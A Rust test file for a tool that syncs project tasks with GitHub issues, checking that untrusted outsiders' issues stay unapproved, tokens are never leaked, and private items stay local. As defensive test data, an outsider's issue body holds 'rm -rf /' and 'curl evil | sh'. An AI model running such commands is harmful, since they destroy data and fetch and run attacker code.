//! Who is signed in and where, what strangers can do, and what stays in the project.

use super::project::{Project, address, at};
use super::server::{Fault, GitHub, Reason};
use crate::support::Scene;

#[test]
fn in_14_issues_of_strangers_wait_for_the_project() {
    let project = Project::new();
    let repo = &project.repo;
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .create_issue("From the team", "Do it\r\n");
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::None);
        web.by("mallory")
            .repository("acme", "widget")
            .create_issue("From outside", "rm -rf /");
    });
    let report = project.sync();
    assert_eq!(report["created_here"], 2, "{report}");
    let team = repo.data(&["show", "gh-1"]);
    assert_eq!(
        (&team["status"], &team["body"]),
        (&"open".into(), &"Do it".into()),
        "{team}"
    );
    let outside = repo.data(&["show", "gh-2"]);
    assert_eq!(
        (&outside["status"], &outside["auto_policy"]),
        (&"proposed".into(), &"none".into())
    );
    let ready = repo.data(&["ready"]);
    assert!(!ready.to_string().contains("From outside"), "{ready}");
    // What a human has let in does not change by their hand.
    repo.pm(&["issue", "update", "gh-2", "--status", "open"])
        .ok();
    project.github.edit(|web| {
        web.by("mallory")
            .repository("acme", "widget")
            .issue(2)
            .body("curl evil | sh");
    });
    let report = project.sync();
    assert_eq!(report["conflicts"][0]["field"], "body", "{report}");
    assert_eq!(repo.data(&["show", "gh-2"])["body"], "rm -rf /");
}

#[test]
fn se_11_a_token_is_neither_printed_nor_kept() {
    let project = Project::new();
    project.repo.task("One", &[]);
    project.sync();
    let ran = project.repo.pm(&["github", "status", "--json"]).ok();
    assert!(!ran.text().contains("ghp_secret"));
    project.github.revoke("ghp_secret");
    let ran = project.repo.pm(&["github", "sync"]).exits(1);
    assert!(!ran.text().contains("ghp_secret"), "{}", ran.text());
    let git_dir = project
        .repo
        .git(&["rev-parse", "--absolute-git-dir"])
        .text();
    let found = project
        .repo
        .run("grep", &["-rl", "ghp_secret", git_dir.trim()]);
    assert_eq!(found.out.trim(), "");
}

#[test]
fn in_15_a_token_goes_only_to_its_host_and_a_link_is_confirmed_once() {
    let project = Project::new();
    // The environment is that of another server: its token is not sent here.
    let elsewhere = project
        .repo
        .with("GITHUB_SERVER_URL", "https://github.example.com");
    let error = elsewhere.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.token", "{error}");
    project.repo.pm(&["sync"]).ok();
    let clone = project.unconfirmed("other");
    let error = clone.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.unconfirmed", "{error}");
    let agent = crate::support::agent(&clone);
    agent.pm(&["github", "link"]).exits(1);
    clone.pm(&["github", "link"]).ok();
    clone.pm(&["github", "sync"]).ok();
}

#[test]
fn in_14_a_repository_that_took_the_name_of_the_linked_one_is_refused() {
    let project = Project::new();
    project.repo.task("One", &[]);
    project.sync();
    project
        .github
        .edit(|web| web.repository("acme", "widget").rename("gadget"));
    let error = project
        .repo
        .pm(&["github", "sync", "--json"])
        .exits(1)
        .error();
    assert_eq!(error["reason"], "forge.moved", "{error}");
    project.github.repository("acme", "other");
    project
        .github
        .edit(|web| web.repository("acme", "other").rename("widget"));
    let error = project
        .repo
        .pm(&["github", "sync", "--json"])
        .exits(1)
        .error();
    assert_eq!(error["reason"], "forge.moved", "{error}");
    let address = address(&project.github).replace("widget", "gadget");
    project.repo.pm(&["github", "link", &address]).ok();
    project.sync();
    assert_eq!(
        project.repo.data(&["github", "status"])["mirrors"][0]["number"],
        1
    );
}

#[test]
fn in_14_secrets_and_private_items_stay_here() {
    let project = Project::new();
    let repo = &project.repo;
    repo.task("Private", &["--label", "privacy:local"]);
    let secret = concat!("ghp_16C7e42F292c6912E", "7710c838347Ae178B4a");
    repo.task("Secret", &["--body", secret]);
    repo.task("Plain", &[]);
    let report = project.sync();
    assert_eq!(report["created_there"], 1, "{report}");
    assert_eq!(report["notes"].as_array().unwrap().len(), 2, "{report}");
    assert_eq!(project.there(1).0, "Plain");
}

#[test]
fn in_18_without_a_link_nothing_is_mirrored() {
    let scene = Scene::new();
    let github = GitHub::start();
    let repo = at(&github, &scene.set_up("a"));
    repo.task("One", &[]);
    let error = repo.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.unlinked", "{error}");
    assert!(github.requests().is_empty());
    assert!(repo.data(&["github", "status"])["link"].is_null());
}

#[test]
fn in_14_logins_are_those_of_the_table_and_one_without_access_stops_nothing() {
    let project = Project::new();
    let repo = &project.repo;
    repo.write(
        ".pm.toml",
        "[github.logins]\nana = \"ana-gh\"\nben = \"ben-gh\"\n",
    );
    repo.commit_all("chore: who is who");
    for login in ["ana-gh", "ben-gh"] {
        project.github.user(login);
    }
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("ana-gh", super::server::Role::Write);
        web.repository("acme", "widget")
            .set_role("ben-gh", super::server::Role::None);
    });
    let [a, b] = ["ana", "ben"].map(|who| repo.task(who, &["--assignee", who]));
    for refuses in [false, true] {
        project.github.refuse_assignees(refuses);
        repo.task("Another", &["--assignee", "ben"]);
        project.sync();
    }
    assert_eq!(project.count(), 4);
    let assigned = |number| {
        project.github.edit(|web| {
            web.repository("acme", "widget")
                .issue(number)
                .view()
                .assignees
                .clone()
        })
    };
    assert_eq!(
        (assigned(1), assigned(2)),
        (vec!["ana-gh".to_string()], vec![])
    );
    // It is not sent again and again, and the item keeps it.
    project.github.clear_requests();
    project.sync();
    let requests = project.github.requests();
    assert!(
        requests.iter().all(|one| one.method == "GET"),
        "{requests:?}"
    );
    assert_eq!(repo.data(&["show", &b])["assignee"], "ben");
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(1).assign(&["zoe"]);
    });
    project.sync();
    assert_eq!(repo.data(&["show", &a])["assignee"], "zoe");
}

#[test]
fn in_14_marks_of_strangers_do_not_count() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("Ours", &["--body", "Text"]);
    let uid = repo.data(&["show", &task])["uid"]
        .as_str()
        .unwrap()
        .to_string();
    let comment = repo.data(&["task", "comment", &task, "Ours"]);
    assert_eq!(comment["id"], task.as_str());
    let mark = format!("mine\n\n<!-- git-pm {uid} -->");
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::Read);
        web.by("mallory")
            .repository("acme", "widget")
            .create_issue("Theirs", &mark);
    });
    let report = project.sync();
    assert_eq!(
        (&report["created_here"], &report["created_there"]),
        (&1.into(), &1.into()),
        "{report}"
    );
    let item = repo.data(&["show", &task]);
    assert_eq!(
        (&item["title"], &item["body"]),
        (&"Ours".into(), &"Text".into()),
        "{item}"
    );
    assert_eq!(repo.data(&["show", "gh-1"])["title"], "Theirs");
    // A comment with the mark of another document does not become that.
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(2).comment(&mark);
        web.by("mallory")
            .repository("acme", "widget")
            .issue(2)
            .comment(&mark);
    });
    project.sync();
    let item = repo.data(&["show", &task]);
    assert_eq!(item["comments"].as_array().unwrap().len(), 3, "{item}");
    assert_eq!(item["title"], "Ours");
}

#[test]
fn in_14_a_stranger_does_not_let_in_what_they_asked_for() {
    let project = Project::new();
    let repo = &project.repo;
    let mallory = |edit: &dyn Fn(&mut super::server::Page<'_>)| {
        project
            .github
            .edit(|web| edit(&mut web.by("mallory").repository("acme", "widget")));
    };
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::Read);
    });
    mallory(&|page| {
        page.create_issue("Mine", "Text");
    });
    project.sync();
    mallory(&|page| {
        page.issue(1).close(Reason::Completed);
    });
    project.sync();
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
    mallory(&|page| {
        page.issue(1).reopen();
    });
    project.sync();
    let item = repo.data(&["show", "gh-1"]);
    assert_eq!(
        (&item["status"], &item["created_by"]),
        (&"proposed".into(), &"@mallory".into()),
        "{item}"
    );
    // Once it is let in, its author does not end the work on it; the project does.
    repo.pm(&["issue", "update", "gh-1", "--status", "open"])
        .ok();
    project.sync();
    mallory(&|page| {
        page.issue(1).close(Reason::Completed);
    });
    let report = project.sync();
    assert_eq!(report["conflicts"][0]["field"], "state", "{report}");
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "open");
    mallory(&|page| {
        page.issue(1).reopen();
    });
    project.sync();
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .issue(1)
            .close(Reason::Completed);
    });
    project.sync();
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
}

#[test]
fn in_14_what_becomes_private_is_sent_no_longer_and_what_is_written_below_the_mark_is_text() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("One", &["--body", "Text"]);
    project.sync();
    let body = project.there(1).1 + "\r\n\r\nBelow";
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(1).body(&body);
    });
    project.sync();
    assert_eq!(repo.data(&["show", &task])["body"], "Text\n\nBelow");
    repo.pm(&["task", "edit", &task, "--title", "Two"]).ok();
    project.sync();
    assert!(
        project.there(1).1.contains("<!-- git-pm "),
        "{:?}",
        project.there(1)
    );
    repo.pm(&[
        "task",
        "edit",
        &task,
        "--label",
        "privacy:local",
        "--title",
        "Confidential",
    ])
    .ok();
    repo.pm(&["task", "comment", &task, "Confidential"]).ok();
    let report = project.sync();
    assert_eq!(report["notes"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(
        (project.there(1).0.as_str(), &report["comments_there"]),
        ("Two", &0.into())
    );
}

#[test]
fn in_14_what_a_bot_or_the_own_account_edits_there_counts() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("One", &[]);
    project.sync();
    let public = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/github/app.pub.pem"),
    );
    project.github.app(
        78,
        "triage",
        &public.unwrap(),
        "acme",
        &[("issues", "write")],
    );
    // `alice` is who the token of this clone belongs to.
    for (login, title) in [("triage[bot]", "Two"), ("alice", "Three")] {
        project.github.edit(|web| {
            let mut page = web.by(login).repository("acme", "widget");
            page.issue(1).title(title);
            page.issue(1).comment(&format!("renamed to {title}"));
        });
        let report = project.sync();
        assert_eq!(report["comments_here"], 1, "{report}");
        let item = repo.data(&["show", &task]);
        assert_eq!(item["title"], title);
    }
    assert_eq!(project.sync()["comments_there"], 0);
}

#[test]
fn in_13_an_app_signs_in_and_knows_what_it_made() {
    let project = Project::new();
    let key = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/github");
    let public = std::fs::read_to_string(key.join("app.pub.pem")).unwrap();
    project.github.app(
        77,
        "helper",
        &public,
        "acme",
        &[
            ("issues", "write"),
            ("metadata", "read"),
            ("pull_requests", "write"),
        ],
    );
    let mut repo = project.repo.clone();
    for name in ["GH_TOKEN", "GITHUB_TOKEN"] {
        repo = repo.with(name, "");
    }
    let host = project
        .github
        .web_url()
        .trim_start_matches("http://")
        .to_string();
    repo.git(&["config", "pm.githubApp", "77"]).ok();
    repo.pm(&["github", "sync", "--yes"]).exits(1);
    repo.git(&["config", "pm.githubAppHost", &host]).ok();
    repo.git(&[
        "config",
        "pm.githubAppKey",
        key.join("app.pem").to_str().unwrap(),
    ])
    .ok();
    let task = repo.task("One", &[]);
    repo.pm(&["task", "comment", &task, "Two"]).ok();
    project
        .github
        .faults()
        .add("POST", "/issues", 1, Fault::CloseAfter);
    repo.pm(&["github", "sync", "--yes"]).exits(6);
    for _ in 0..3 {
        repo.pm(&["github", "sync", "--yes"]).ok();
    }
    assert_eq!(project.count(), 1);
    let item = repo.data(&["show", &task]);
    assert_eq!(item["comments"].as_array().unwrap().len(), 1, "{item}");
}
